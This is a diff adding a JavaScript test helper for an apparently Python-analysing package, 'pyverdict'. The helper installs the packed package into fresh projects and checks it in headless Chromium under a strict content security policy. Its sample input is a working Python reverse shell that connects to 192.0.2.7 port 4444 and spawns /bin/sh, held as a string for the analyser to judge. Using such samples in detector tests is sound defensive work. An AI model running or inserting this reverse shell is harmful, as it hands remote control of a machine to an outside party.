@@ -1,0 +1,123 @@
+// The package as others get it, installed into a project of each kind, built there without any configuration of ours,
+// and run in a real browser under a strict policy.
+import assert from 'node:assert/strict';
+import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { chromium } from 'playwright-core';
+import { capture } from '../../scripts/lib/run.mjs';
+import { host } from '../browser/hosts.mjs';
+
+export const root = fileURLToPath(new URL('../..', import.meta.url));
+
+/** Nothing inline, nothing evaluated, nothing from elsewhere. */
+export const strictPolicy =
+  "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'self'; connect-src 'self'; style-src 'self'; base-uri 'none'; form-action 'none'; object-src 'none'; frame-ancestors 'none'";
+
+export const shell = `import socket, os, pty
+s = socket.socket()
+s.connect(("192.0.2.7", 4444))
+os.dup2(s.fileno(), 0)
+pty.spawn("/bin/sh")
+`;
+
+/** Packs the package once, and makes projects that have it. */
+export async function packed() {
+  const folder = mkdtempSync(join(tmpdir(), 'pyverdict-packed-'));
+  const { status, all } = await capture('npm', ['pack', '--ignore-scripts', '--pack-destination', folder]);
+  assert.equal(status, 0, all);
+  const archive = join(folder, readdirSync(folder).find((name) => name.endsWith('.tgz')) ?? '');
+
+  return {
+    /**
+     * A fresh project with these files, and the package installed.
+     * @param {string} name
+     * @param {Record<string, string>} files
+     */
+    async project(name, files) {
+      const where = join(folder, name);
+      for (const [path, text] of Object.entries({
+        'package.json': JSON.stringify({ name, private: true, type: 'module' }),
+        ...files,
+      })) {
+        mkdirSync(dirname(join(where, path)), { recursive: true });
+        writeFileSync(join(where, path), text);
+      }
+      const installed = await capture('npm', ['install', '--no-audit', '--no-fund', '--offline', archive], {
+        cwd: where,
+      });
+      assert.equal(installed.status, 0, installed.all);
+      return where;
+    },
+    remove: () => rmSync(folder, { recursive: true, force: true }),
+  };
+}
+
+/** The same in every project: all entries are used, and what came of them is put where the test finds it. @param {string} from */
+export const program = (from = '') => `
+import { createAnalyzer } from '${from || 'pyverdict'}';
+import { createWorkerAnalyzer } from '${from || 'pyverdict/worker'}';
+import { configure } from 'pyverdict/element';
+${from === '' ? '' : 'configure({ createWorkerAnalyzer });'}
+const script = ${JSON.stringify(shell)};
+async function main() {
+const direct = await createAnalyzer({ model: 'off' });
+const threaded = await createWorkerAnalyzer({ model: 'off' });
+const element = document.createElement('pyverdict-analyzer');
+document.body.append(element);
+const shown = new Promise((resolve, reject) => {
+  element.addEventListener('pyverdict-report', ({ detail }) => resolve(detail));
+  element.addEventListener('pyverdict-error', ({ detail }) => reject(new Error(detail.message)));
+});
+element.input = script;
+const results = [await direct.analyze(script), await threaded.analyze(script), await shown];
+window.labels = results.map(({ reports }) => reports[0].verdict.label);
+}
+main();
+`;
+
+/** @param {string} script its address, relative to the page */
+export const page = (script) =>
+  `<!doctype html><html lang="en"><head><title>x</title></head><body><script type="module" src="${script}"></script></body></html>`;
+
+/** The browser for the tests of one file. */
+export async function browser() {
+  const chrome = await chromium.launch({
+    executablePath: '/usr/bin/chromium',
+    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking'],
+  });
+  return {
+    chrome,
+    /**
+     * Opens a page of a folder that is served under a path, and gives what its program found.
+     * @param {string} folder
+     * @param {{path?: string, policy?: string}} [options]
+     */
+    async labels(folder, { path = '/', policy = strictPolicy } = {}) {
+      const server = await host(
+        {},
+        { folders: { [path]: folder }, headers: { 'Content-Security-Policy': policy } },
+      );
+      const context = await chrome.newContext();
+      try {
+        const tab = await context.newPage();
+        /** @type {string[]} */
+        const problems = [];
+        tab.on('console', (message) => message.type() === 'error' && problems.push(message.text()));
+        tab.on('pageerror', (error) => problems.push(String(error)));
+        await tab.goto(`${server.address}${path}index.html`);
+        await tab
+          .waitForFunction(() => /** @type {any} */ (window).labels, undefined, { timeout: 30_000 })
+          .catch((error) => assert.fail(`${error.message}\n${problems.join('\n')}`));
+        await tab.locator('.cm-line').first().waitFor();
+        assert.deepEqual(problems, []);
+        return await tab.evaluate(() => /** @type {any} */ (window).labels);
+      } finally {
+        await context.close();
+        await server.close();
+      }
+    },
+    close: () => chrome.close(),
+  };
+}
